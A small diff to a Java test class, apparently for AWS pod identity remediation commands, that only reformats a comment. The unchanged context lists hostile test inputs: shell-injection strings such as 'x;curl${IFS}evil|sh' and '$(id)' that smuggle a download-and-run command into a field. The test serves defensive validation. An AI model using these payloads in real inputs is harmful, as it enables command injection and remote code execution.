@@ -141,7 +141,9 @@ class RemediesTest {
         .doesNotContain("create-pod-identity-association");
   }
 
-  /** What a service account's editor may write; the first two are ends of legal ARNs' paths, too. */
+  /**
+   * What a service account's editor may write; the first two are ends of legal ARNs' paths, too.
+   */
   private static final List<String> HOSTILE =
       List.of("x;curl${IFS}evil|sh", "$(id)", "x; curl evil|sh", "x\ncurl evil|sh", "'`id`'", "-x");
 
